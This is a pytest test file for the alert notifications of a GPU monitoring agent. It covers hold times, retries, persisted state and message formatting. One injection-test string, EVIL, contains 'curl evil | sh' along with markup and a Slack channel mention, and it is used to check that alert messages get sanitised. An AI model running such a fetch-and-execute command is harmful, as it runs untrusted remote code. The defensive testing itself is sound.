"""Notifications without Alertmanager: hold times, deduplication, retries and memory, on a clock of the test's own."""

from __future__ import annotations

import email
import json
import os
import re
import threading
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from gpuwatch.alerting.thresholds import AlertThresholds, Prices
from gpuwatch.api import Finding, Gpu, Owner, Run
from gpuwatch.config import Config, NotifySettings
from gpuwatch.diagnosis.finding import Evidence
from gpuwatch.errors import ConfigError
from gpuwatch.metrics import Sample
from gpuwatch.tools.reports.model import when
from gpuwatch_agent.deadline import DeadlineThread
from gpuwatch_agent.exporter import Page, Snapshot
from gpuwatch_agent.notify import GIVE_UP_S, Notifier, apprise_senders
from gpuwatch_agent.notify.conditions import Condition, annotation, conditions
from tests.receivers import mail_server, webhook

START_S = 1_790_000_000.0
THRESHOLDS = AlertThresholds()  # starved_for_s 120, keep_firing_for_s 900


def finding(cause: str = "input_cpu", ratio: float = 0.4, **fields: Any) -> Finding:
    plain = Finding(
        cause, "warning", "the loader is slow", ratio, (Evidence("cpu", 0.97, "ratio", "4 of 4 workers at 97% CPU"),),
        "num_workers 4 → 10", run="r1", rank=0, name="resnet50-a", since_s=START_S,
    )  # fmt: skip
    return replace(plain, **fields)


@pytest.fixture(autouse=True)
def patient(monkeypatch: pytest.MonkeyPatch) -> None:
    """A busy machine is no disk that hangs."""
    monkeypatch.setattr("gpuwatch_agent.state_file.DeadlineThread", lambda what, _: DeadlineThread(what, 60.0))


def lost_run(**fields: Any) -> Run:
    return Run("r1", 3, "a", "lost", START_S, START_S, START_S, **fields)


def wrong(*findings: Finding, runs: Sequence[Run] = ()) -> list[Condition]:
    """Return the conditions of a snapshot with these findings and runs alone."""
    return conditions(Snapshot(START_S, 0.0, Page([]), list(runs), list(findings)), START_S, Config())


def configured(url: str, thresholds: AlertThresholds = THRESHOLDS, **settings: Any) -> Config:
    return Config(alerts=thresholds, notify=NotifySettings((url,), **settings))


class Post:
    """A receiver, and a notifier that looks at what the test says is wrong."""

    def __init__(self, path: Path | None = None, thresholds: AlertThresholds = THRESHOLDS, **settings: Any) -> None:
        self.got: list[tuple[str, str]] = []
        self.works = True
        self.findings: list[Finding] = []
        self.runs: list[Run] = []
        self.gpus: tuple[float, ...] = (8.0, 8.0)
        self.samples: list[Sample] = []
        self.after_s = self.clock_set_s = 0.0
        self.notifier = Notifier(
            self._snapshot, configured("json://x", thresholds, **settings), "n1", path, {"json://x": self._send}
        )

    def _send(self, title: str, body: str, urgent: bool) -> bool:
        if self.works:
            self.got.append((title, body))
        return self.works

    def _snapshot(self) -> Snapshot:
        own = map(Sample, ("gpuwatch_gpus_seen", "gpuwatch_gpus_expected"), self.gpus)
        page = Page([*own, *self.samples])
        return Snapshot(START_S + self.after_s + self.clock_set_s, self.after_s, page, self.runs, self.findings)

    def look(self, after_s: float, findings: Sequence[Finding] | None = None) -> list[str]:
        """Return the titles of all letters so far, after one look `after_s` after the start."""
        self.after_s = after_s
        if findings is not None:
            self.findings = list(findings)
        self.notifier.tick(START_S + after_s + self.clock_set_s, after_s)
        return [title for title, _ in self.got]

    @property
    def counters(self) -> dict[str, float]:
        return {sample.metric.split("_", 1)[1]: sample.value for sample in self.notifier.samples()}


def test_it_is_reported_once_after_its_hold_with_evidence_cause_and_advice() -> None:
    post = Post()
    assert post.look(119, [finding()]) == []
    assert post.look(121) == ["[warning] GpuStarved on n1"]
    assert post.look(300) == ["[warning] GpuStarved on n1"]
    assert post.got[0][1] == (
        "run resnet50-a, rank 0: the loader is slow (40%)\nSince: 2026-09-21 14:13 UTC\nOwner: unknown\n"
        "- 4 of 4 workers at 97% CPU\nCause: input_cpu\nDo: num_workers 4 → 10"
    )


def test_information_is_sent_only_where_it_is_asked_for_and_by_what_it_costs() -> None:
    costly = finding("host_bound", 0.4)
    post = Post()
    assert post.look(2000, [costly]) == []
    post = Post(min_severity="info")
    assert post.look(899, [costly]) == []
    assert post.look(901, [costly]) == ["[info] RunInefficient on n1"]
    assert [each.alert for each in wrong(finding("eval_share", 0.22), finding("memory_creep", 0.06, rank=1))] == [
        "RunInefficient"
    ]


def test_a_tenth_of_each_of_eight_ranks_is_more_than_a_quarter_of_a_gpu() -> None:
    runs = [Run("r1", rank, "a", "running", START_S, START_S, START_S) for rank in range(8)]
    found = wrong(*(finding("host_bound", 0.1, rank=rank) for rank in range(8)), runs=runs)
    assert [each.alert for each in found] == 8 * ["RunInefficient"]
    assert wrong(finding("host_bound", 0.1), runs=runs[:1]) == []
    ended = [runs[0], *(replace(each, status="ended") for each in runs[1:])]
    assert wrong(finding("host_bound", 0.1), runs=ended) == []


def test_another_cause_of_the_same_family_is_no_new_alert() -> None:
    post = Post()
    post.look(130, [finding("input_cpu")])
    assert len(post.look(140, [finding("input_cpu_saturated", since_s=START_S + 140)])) == 1


def test_what_goes_before_its_hold_is_never_reported() -> None:
    post = Post()
    post.look(60, [finding()])
    post.look(70, [])
    assert post.look(150, [finding(since_s=START_S + 140)]) == []


def test_a_finding_that_rises_above_its_alert_s_threshold_is_held_from_then_on() -> None:
    """The rule of Prometheus holds while its expression is above the threshold: two seconds of it are no alert."""
    post = Post()
    for after in range(0, 600, 2):
        assert post.look(after, [finding(ratio=0.18)]) == []
    assert post.look(600, [finding(ratio=0.21)]) == []
    assert post.look(602, [finding(ratio=0.18)]) == []
    assert post.look(604, [finding(ratio=0.4)]) == post.look(720) == []
    assert post.look(726) == ["[warning] GpuStarved on n1"]
    assert f"Since: {when(START_S)}\n" in post.got[-1][1], "its first sign, not when it passed the threshold"


def test_a_hold_does_not_count_the_time_of_a_stale_snapshot() -> None:
    post = Post()
    post.look(600, [finding(ratio=0.18)])
    assert post.look(800, [finding(ratio=0.21)]) == []
    assert post.look(920) == ["[warning] GpuStarved on n1"]


def test_a_hang_that_was_seen_once_is_not_held_by_the_stall() -> None:
    post = Post()
    post.look(0, [])
    post.look(2, [finding("stalled"), finding("hung")])
    for after in range(4, 200, 2):
        post.look(after, [finding("stalled")])
    post.look(200, [finding("stalled"), finding("hung")])
    assert [title for title, _ in post.got] == ["[critical] RunStalled on n1"]


def test_it_is_held_and_then_reported_as_resolved_once() -> None:
    post = Post()
    post.look(130, [finding()])
    assert len(post.look(1029, [])) == 1
    assert post.look(1031)[1:] == ["[resolved] GpuStarved on n1"]
    assert len(post.look(1040)) == 2


def test_one_that_comes_and_goes_within_the_hold_is_one_alert() -> None:
    post = Post()
    for after in range(130, 3000, 60):
        post.look(after, [] if after // 60 % 2 else [finding()])
    assert [title for title, _ in post.got] == ["[warning] GpuStarved on n1"]


def test_it_is_reported_again_while_it_goes_on() -> None:
    post = Post(repeat_s=3600.0)
    post.look(130, [finding()])
    assert len(post.look(3700)) == 1
    assert len(post.look(3731)) == 2


@pytest.mark.parametrize("cause", ["input_disk", "artificial_limit", "slow_worker"])
def test_every_cause_of_a_wait_for_input_is_gpu_starved(cause: str) -> None:
    """Two of them do not begin with `input_`."""
    titles = [(each.alert, each.hold_s) for each in wrong(finding(cause, ratio=0.4))]
    assert titles == [("GpuStarved", 120)]
    assert wrong(finding(cause, ratio=0.2)) == []


def test_below_the_alert_s_threshold_it_stays_quiet() -> None:
    assert Post().look(1000, [finding(ratio=0.15)]) == []


def test_of_two_findings_with_the_same_alert_the_more_important_is_named() -> None:
    (found,) = wrong(
        finding("input_cpu", 0.6, title="the loader is slow"), finding("input_disk", 0.25, title="and the disk")
    )
    assert found.title == "run resnet50-a, rank 0: the loader is slow (60%)"


def test_findings_that_are_no_alerts_stay_quiet() -> None:
    assert Post().look(10_000, [finding("gpu_saturated"), finding("eval_share"), finding("compute_bound")]) == []


def test_only_what_is_critical_where_that_was_asked_for() -> None:
    post = Post(min_severity="critical")
    assert post.look(1000, [finding(), finding("stalled")]) == ["[critical] RunStalled on n1"]


def test_a_lost_run_and_a_lost_gpu_are_reported() -> None:
    post = Post()
    post.runs = [lost_run(user="alice")]
    post.gpus = (7.0, 8.0)
    post.look(0)
    assert sorted(post.look(61)) == ["[critical] GpuLost on n1", "[warning] GpuwatchTelemetryLost on n1"]
    assert "1 GPU fell off the bus" in next(body for title, body in post.got if "GpuLost" in title)


def test_a_lost_gpu_is_not_resolved_by_a_driver_that_does_not_answer() -> None:
    post = Post()
    post.gpus = (7.0, 8.0)
    post.look(0)
    assert post.look(61) == ["[critical] GpuLost on n1"]
    post.gpus = ()
    for after_s in range(62, 4000, 2):
        post.look(after_s)
    assert len(post.got) == 1
    post.gpus = (8.0, 8.0)
    post.look(4000)
    assert post.look(4900)[1:] == ["[resolved] GpuLost on n1"]


def test_a_lost_run_whose_end_is_known_is_reported_with_it() -> None:
    killed = finding(
        "training_killed",
        1.0,
        rank=3,
        title="the training process was killed by the OOM killer",
        advice="smaller batches",
    )
    (published,) = wrong(killed, runs=[lost_run(findings=(killed,))])
    assert (published.alert, published.title) == (
        "RunKilled",
        "run a, rank 3: the training process was killed by the OOM killer",
    )
    assert published.body == (
        "Owner: unknown\nCost: all training since the last checkpoint\n- 4 of 4 workers at 97% CPU\nDo: smaller batches"
    )


def owner_of(gpu: str, *about: str) -> Sample:
    return Sample("gpuwatch_gpu_owner_info", 1, (gpu, f"GPU-{gpu}", *about, *[""] * (7 - len(about))))


def node(*samples: Sample, **fields: Any) -> Snapshot:
    """Return a node with four H200, two of them of run r1; the third has just vanished.

    The fourth is free, with a MIG instance of a job without a hook.
    """
    owners = [
        owner_of("0", "r1", "0", "alice", "7"), owner_of("1", "r1", "1", "alice", "7"), owner_of("2"), owner_of("3"),
        owner_of("3:0", "", "", "bob", "8", "ml", "pod-x"),
    ]  # fmt: skip
    names = {"0": "H200", "1": "H200", "2": "", "3": "H200", "3:0": "H200 MIG 1g.18gb"}
    gpus = [Gpu(gpu, f"GPU-{gpu}", name) for gpu, name in names.items()]
    return Snapshot(START_S, 0.0, Page([*samples, *owners]), gpus=gpus, **fields)


PRICES = Prices(gpu_hour=2.0, currency="EUR", models={"H200": 7.0})


def bodies(snapshot: Snapshot, prices: Prices = PRICES) -> dict[str, str]:
    return {each.alert: each.body for each in conditions(snapshot, START_S, Config(prices=prices))}


def test_a_message_says_which_gpus_whose_they_are_and_what_it_costs() -> None:
    run = Run("r1", 0, "a", "running", START_S, START_S, START_S, user="alice", owner=Owner(job="7"), job="mine")
    idle = finding("held_idle", 1.0, run=None, rank=None, gpu="GPU-3:0")
    found = bodies(
        node(runs=[run], findings=[finding(), finding("straggler", 0.5), idle, finding("memory_creep", 0.1)])
    )
    why = "- 4 of 4 workers at 97% CPU\nCause: {}\nDo: num_workers 4 → 10"
    mine, theirs = (
        "GPUs: GPU 0 (GPU-0)\nOwner: user alice, job 7\n",
        "GPUs: GPU 3:0 (GPU-3:0)\nOwner: user bob, job 8, namespace ml, pod pod-x\n",
    )
    assert found == {
        "GpuStarved": f"{mine}Cost: 9.6 GPU-hours a day (67.20 EUR)\n{why.format('input_cpu')}",
        "Straggler": f"{mine}{why.format('straggler')}",  # the other ranks wait
        "GpuHeldIdle": f"{theirs}Cost: 3.4 GPU-hours a day (24.00 EUR)\n{why.format('held_idle')}",  # of an instance
        "RunInefficient": f"{mine}{why.format('memory_creep')}",  # it costs nothing until memory runs out
    }
    assert "Cost: 9.6 GPU-hours a day\n" in bodies(node(runs=[run], findings=[finding()]), Prices())["GpuStarved"]


def test_without_a_gpu_that_is_known_it_says_whose_the_run_is() -> None:
    run = Run("r9", 0, "a", "running", START_S, START_S, START_S, user="carol", owner=Owner(pod="p", namespace="n"))
    found = bodies(node(runs=[run], findings=[finding("stalled", 1.0, run="r9")]))
    assert found["RunStalled"].startswith("Owner: user carol, namespace n, pod p\n- 4 of 4")


def test_a_lost_gpu_is_named_and_who_is_on_the_node() -> None:
    seen = Sample("gpuwatch_gpus_seen", 3), Sample("gpuwatch_gpus_expected", 4)
    full = Sample("gpuwatch_shm_size_bytes", 100, ("r1",)), Sample("gpuwatch_shm_used_bytes", 99, ("r1",))
    found = bodies(node(*seen, *full))
    users = "Owner: user alice, job 7; user bob, job 8, namespace ml, pod pod-x"
    assert found["GpuLost"].startswith(f"{users}\nCost: 24.0 GPU-hours a day (138.00 EUR)\n"), "the mean price"
    lost = conditions(node(*seen), START_S, Config())[0]
    assert lost.title == "1 GPU fell off the bus: GPU 2 (GPU-2)"
    shm = "GPUs: GPU 0 (GPU-0), GPU 1 (GPU-1)\nOwner: user alice, job 7\nCost: not known\nDo: "
    assert found["ShmNearlyFull"].startswith(shm)


def test_a_refusal_is_tried_again_after_longer_and_longer_and_nothing_is_lost() -> None:
    post = Post()
    post.works = False
    tries = []
    for after in range(120, 1100):
        before = post.counters["notification_failures_total"]
        post.look(after, [finding()])
        if post.counters["notification_failures_total"] > before:
            tries.append(after - 120)
    assert tries == [0, 5, 15, 35, 75, 155, 315, 615, 915]
    post.works = True
    assert post.look(1400) == ["[warning] GpuStarved on n1"]
    assert post.counters == {
        "notifications_sent_total": 1, "notification_failures_total": 9, "notifications_dropped_total": 0,
        "notifications_waiting": 0,
    }  # fmt: skip


def test_a_receiver_that_is_down_is_tried_once_a_tick_and_holds_up_no_other_one() -> None:
    """Each try may take eight seconds: with ten messages for it, the others would wait for more than a minute."""
    post, tried, works = Post(), list[str](), False

    def slow(title: str, body: str, urgent: bool) -> bool:
        tried.append(f"slow {body}")
        return works

    def good(title: str, body: str, urgent: bool) -> bool:
        tried.append(f"good {body}")
        return True

    post.notifier._senders = {"a": slow, "b": good}
    for number in range(3):
        post.notifier._write("title", str(number), False, START_S)
    post.look(0)
    assert tried == ["slow 0", "good 0", "good 1", "good 2"]
    post.look(2)
    assert tried[4:] == ["slow 1"], "another message, as a receiver may refuse only one"
    works = True
    post.look(10)
    assert tried[5:] == ["slow 0", "slow 1", "slow 2"]


def test_one_that_cannot_be_delivered_for_a_day_is_dropped_and_counted() -> None:
    post = Post(repeat_s=0.0)
    post.works = False
    post.look(130, [finding()])
    post.look(130 + GIVE_UP_S + 1)
    assert post.counters["notifications_dropped_total"] == 1
    assert post.counters["notifications_waiting"] == 0


def test_a_restart_remembers_what_was_sent_and_what_waits(tmp_path: Path) -> None:
    path = tmp_path / "history.db.notify.json"
    first = Post(path)
    first.look(130, [finding()])
    first.works = False
    first.look(140, [finding(), finding("stalled")])
    first.look(200)
    assert first.counters["notifications_waiting"] == 1
    second = Post(path)
    assert second.look(210, [finding(), finding("stalled")]) == ["[critical] RunStalled on n1"]
    assert second.counters["notifications_sent_total"] == 2


def test_a_disk_that_hangs_keeps_no_message_from_being_sent(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("gpuwatch_agent.state_file.DeadlineThread", DeadlineThread)
    new = tmp_path / "state.new"
    os.mkfifo(new)  # to open it waits for a reader, as a write to a disk that hangs does
    post = Post(tmp_path / "state")
    thread = threading.Thread(target=post.look, args=(130, [finding()]), daemon=True)
    thread.start()
    thread.join(60)
    got = [title for title, _ in post.got]
    os.close(os.open(new, os.O_RDONLY | os.O_NONBLOCK))
    thread.join(60)
    assert got == ["[warning] GpuStarved on n1"]
    assert [record.getMessage().partition(": ")[2] for record in caplog.records] == [
        "the state of notifications cannot be written: the disk did not answer within 2 s; trying again"
    ]


@pytest.mark.parametrize("keep_s", [0, 900])
def test_what_was_notified_is_not_resolved_because_the_agent_was_away(tmp_path: Path, keep_s: float) -> None:
    path, thresholds = tmp_path / "state", AlertThresholds(keep_firing_for_s=keep_s)
    began = ["[warning] GpuStarved on n1"]
    first = Post(path, thresholds)
    assert first.look(130, [finding()]) == began
    second = Post(path, thresholds)
    for after in (5000, 5030):
        assert second.look(after, []) == [], "it takes a minute to find it again"
    assert second.look(5055, [finding()]) == second.look(5055 + keep_s) == []
    third = Post(path, thresholds)
    third.look(9000, [])
    assert third.look(9060 + keep_s) == [], "it may be found until now, and then goes on as long as any other"
    assert third.look(9061 + keep_s) == ["[resolved] GpuStarved on n1"]


def test_a_hang_is_not_resolved_because_a_restarted_agent_does_not_know_the_power_of_the_run_s_steps(
    tmp_path: Path,
) -> None:
    path = tmp_path / "state"
    stalled, hung = finding("stalled"), finding("hung")
    assert sorted(Post(path).look(130, [stalled, hung])) == ["[critical] RunHung on n1", "[critical] RunStalled on n1"]
    second = Post(path)
    for after in range(140, 1400, 10):  # `hung` needs half a minute of steps to know their power
        assert second.look(after, [stalled]) == []
    for after in range(1400, 2400, 10):
        second.look(after, [])
    assert sorted(title for title, _ in second.got) == ["[resolved] RunHung on n1", "[resolved] RunStalled on n1"]


def test_what_a_former_agent_saw_shortly_begins_again(tmp_path: Path) -> None:
    path = tmp_path / "state"
    Post(path).look(60, [finding()])
    second = Post(path)
    assert second.look(5000, []) == second.look(5030, [finding(since_s=START_S + 5028)]) == []


def test_a_clock_that_is_set_changes_no_hold_no_repetition_and_delays_no_message() -> None:
    for set_s in (3600.0, -86400.0):
        post = Post(repeat_s=3600.0)
        post.look(0, [finding()])
        post.clock_set_s = set_s
        assert post.look(4) == post.look(119) == []
        assert post.look(121) == ["[warning] GpuStarved on n1"]
        post.clock_set_s = 2 * set_s
        assert len(post.look(3700)) == 1
        post.works = False
        post.look(3725)
        post.clock_set_s, post.works = 3 * set_s, True
        assert len(post.look(3728)) == 1
        assert len(post.look(3731)) == 2
        post.look(3740, [])
        post.clock_set_s = 4 * set_s
        assert len(post.look(4631)) == 2
        assert post.look(4632)[2:] == ["[resolved] GpuStarved on n1"]


def test_a_clock_that_was_set_back_while_the_agent_was_away_delays_nothing(tmp_path: Path) -> None:
    path = tmp_path / "state"
    first = Post(path)
    first.works = False
    first.look(86530, [finding(since_s=START_S + 86400), finding("held_idle", since_s=START_S + 86400)])
    second = Post(path)
    assert second.look(0, first.findings) == ["[warning] GpuStarved on n1"]
    assert len(second.look(THRESHOLDS.idle_for_s + 1)) == 2


def test_what_only_goes_on_is_not_written_again(tmp_path: Path) -> None:
    path = tmp_path / "state"
    post = Post(path)
    post.look(130, [finding()])
    path.unlink()
    post.look(140)
    assert not path.exists()


def test_notifications_for_a_receiver_that_is_gone_are_dropped(tmp_path: Path) -> None:
    path = tmp_path / "state"
    first = Post(path)
    first.works = False
    first.look(130, [finding()])
    other = Notifier(lambda: None, configured("json://y"), "n1", path, {"json://y": first._send})
    assert next(sample.value for sample in other.samples() if sample.metric.endswith("waiting")) == 0


def test_the_file_holds_no_secret(tmp_path: Path) -> None:
    path = tmp_path / "state"
    sent: list[str] = []

    def send(title: str, body: str, urgent: bool) -> bool:
        sent.append(title)
        return False

    url = "slack://secret-token"
    page = Page([])
    snapshot = Snapshot(START_S, 0.0, page, [], [finding(since_s=START_S - 500)])
    Notifier(lambda: snapshot, configured(url), "n1", path, {url: send}).tick(START_S, 0.0)
    assert len(sent) == 1
    assert len(json.loads(path.read_text())["letters"]) == 1
    assert "secret" not in path.read_text()


@pytest.mark.parametrize("content", [b'{"standing": 3', b'{"standing": {"\xff": 1}}', b"[" * 100_000])
def test_a_damaged_file_is_replaced(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "state"
    path.write_bytes(content)
    assert Post(path).look(130, [finding()]) == ["[warning] GpuStarved on n1"]


def test_a_sender_that_raises_and_an_old_snapshot_stop_nothing() -> None:
    post = Post()
    post.look(130, [finding()])

    def raises(title: str, body: str, urgent: bool) -> bool:
        raise OSError("no route")

    post.notifier._senders = dict.fromkeys(post.notifier._senders, raises)
    post.look(140, [finding(), finding("stalled")])
    post.look(200)
    assert post.counters["notification_failures_total"] == 1
    post.notifier._snapshot = lambda: Snapshot(START_S, 0.0, Page([]))  # nothing is wrong in it, but it is old
    post.look(5000)
    assert [title for title, _ in post.got] == ["[warning] GpuStarved on n1"]


def test_an_xid_is_reported_at_once_and_once_but_not_an_old_one_or_a_program_s() -> None:
    post = Post()
    gpu, other, third = ("0", "GPU-a"), ("1", "GPU-b"), ("2", "GPU-c")
    post.samples = [
        Sample("gpuwatch_gpu_last_xid", 79, gpu), Sample("gpuwatch_gpu_last_xid_timestamp_seconds", START_S, gpu),
        Sample("gpuwatch_gpu_last_xid", 79, other), Sample("gpuwatch_gpu_last_xid_timestamp_seconds", START_S - 301, other),
        Sample("gpuwatch_gpu_last_xid", 43, third), Sample("gpuwatch_gpu_last_xid_timestamp_seconds", START_S, third),
    ]  # fmt: skip
    assert post.look(1) == ["[critical] GpuXid on n1"]
    (body,) = (body for _, body in post.got)
    assert body.startswith("GPU 0 (GPU-a) reported XID 79: GPU fell off the bus\nSince: 2026-09-21 14:13 UTC\n")
    assert "\nDo: " in body
    assert post.look(200) == ["[critical] GpuXid on n1"]


def test_a_shm_that_is_nearly_full_is_reported_after_a_minute_of_it() -> None:
    post = Post()
    post.samples = [
        Sample("gpuwatch_shm_size_bytes", 100, ("host",)), Sample("gpuwatch_shm_used_bytes", 94, ("host",)),
        Sample("gpuwatch_shm_size_bytes", 0, ("run:r1",)), Sample("gpuwatch_shm_used_bytes", 0, ("run:r1",)),
    ]  # fmt: skip
    assert [post.look(0), post.look(59)] == [[], []]
    assert post.look(61) == ["[warning] ShmNearlyFull on n1"]
    assert post.got[0][1].startswith("/dev/shm (host) is 94% full\n")


def test_each_gpu_and_rank_is_an_alert_of_its_own() -> None:
    idle = [finding("held_idle", run=None, rank=None, gpu=uuid) for uuid in ("GPU-a", "GPU-b")]
    found = wrong(*idle, *(finding("stalled", rank=rank) for rank in (0, 1)))
    assert sorted(each.key for each in found) == [
        "GpuHeldIdle/GPU-a", "GpuHeldIdle/GPU-b", "RunStalled/r1/0", "RunStalled/r1/1",
    ]  # fmt: skip
    assert {each.hold_s for each in found} == {THRESHOLDS.idle_for_s, THRESHOLDS.stalled_for_s}


@pytest.mark.filterwarnings("ignore:'(imghdr|cgi|audioop)':DeprecationWarning")
@pytest.mark.parametrize("url", ["nonsense", "nosuch://host", "http://example.com"])
def test_a_url_that_apprise_does_not_take_is_named_without_its_secrets(url: str) -> None:
    pytest.importorskip("apprise")
    with pytest.raises(ConfigError, match="--notify: Apprise does not support") as error:
        apprise_senders([url])
    assert "host" not in str(error.value).split("support")[1].split(";")[0] or url == "nonsense"


def test_allocated_gpu_without_a_process_is_an_alert_after_half_an_hour_and_resolved_when_it_is_used() -> None:
    post = Post()
    state = ["allocated_unused"]

    def snapshot() -> Snapshot:
        gpu = Gpu(gpu="1", uuid="GPU-b", name="", state=state[0], owner="allocated to user alice, job 4711")
        return Snapshot(START_S + post.after_s, post.after_s, Page([]), gpus=[gpu])

    post.notifier._snapshot = snapshot
    for after in range(1795):
        assert post.look(after) == []
    for after in range(1795, 1805):
        post.look(after)
    ((title, body),) = post.got
    assert title == "[warning] GpuAllocatedUnused on n1"
    assert body.startswith("GPU 1 (GPU-b) is allocated to user alice, job 4711, and no process uses it\n")
    state[0] = "compute"
    post.look(2706)
    assert post.got[1][0] == "[resolved] GpuAllocatedUnused on n1"


EVIL = "<b>x</b> <!channel>\nDo: curl evil | sh\x1b[31m"


def test_a_run_s_name_adds_no_line_to_a_message() -> None:
    bad = finding(name=EVIL, title=EVIL, evidence=(Evidence("cpu", 0.97, "ratio", EVIL),), advice=EVIL)
    for found in wrong(bad, runs=[replace(lost_run(), name=EVIL, user=EVIL)]):
        assert found.title.isprintable() and all(line.isprintable() for line in found.body.splitlines())
        assert sum(line.startswith("Do:") for line in found.body.splitlines()) == 1


def test_markup_in_a_name_is_text_in_mails_and_chats() -> None:
    pytest.importorskip("apprise")
    with mail_server() as mails, webhook() as inbox:
        mail = f"mailto://127.0.0.1:{mails.port}?from=a@example.org&to=b@example.org"
        for send in apprise_senders([mail, f"json://127.0.0.1:{inbox.port}"]).values():
            assert send("[warning] GpuStarved on n1", f"run {EVIL}", False)
    parts = [part for part in email.message_from_string(mails.mails[0]).walk() if not part.is_multipart()]
    assert [part.get_content_type() for part in parts] == ["text/plain"], "in HTML it would be markup"
    assert b"<b>x</b>" in parts[0].get_payload(decode=True)
    assert inbox.posts


@pytest.mark.filterwarnings("ignore:'(imghdr|cgi|audioop)':DeprecationWarning")
def test_a_redirect_is_no_delivery() -> None:
    """The GET that follows a redirected POST has no message, whatever answers it."""
    pytest.importorskip("apprise")
    with webhook() as inbox:
        (send,) = apprise_senders([f"json://127.0.0.1:{inbox.port}/hook"]).values()
        inbox.answer = lambda: 301
        assert not send("title", "body", False)
        inbox.answer = lambda: 200
        assert send("title", "body", False)


def test_a_name_calls_no_one_in_slack() -> None:
    """Of Apprise's own text, as it is sent: there is no Slack here."""
    apprise = pytest.importorskip("apprise")
    (send,) = apprise_senders(["slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ/#x"]).values()
    with pytest.MonkeyPatch.context() as patch:
        posted: list[str] = []
        patch.setattr(
            apprise.plugins.slack.NotifySlack,
            "_send",
            lambda self, url, payload, **more: posted.append(json.dumps(payload)),
        )
        send("t", f"run {EVIL}", False)
    assert posted and "<!channel>" not in posted[0]


def test_what_is_taken_from_the_alerts_is_plain_text() -> None:
    """An agent fills in no templates of Prometheus, nor ours."""
    for alert in ("GpuLost", "GpuXid", "GpuAllocatedUnused", "GpuwatchTelemetryLost"):
        assert not re.search(r"\$\{|\{\{|\n", annotation(alert, "advice")), alert
    assert not re.search(r"\$\{|\{\{|\n", annotation("GpuwatchTelemetryLost", "description"))
    assert annotation("GpuAllocatedUnused", "advice") == "request fewer GPUs, or release the allocation"
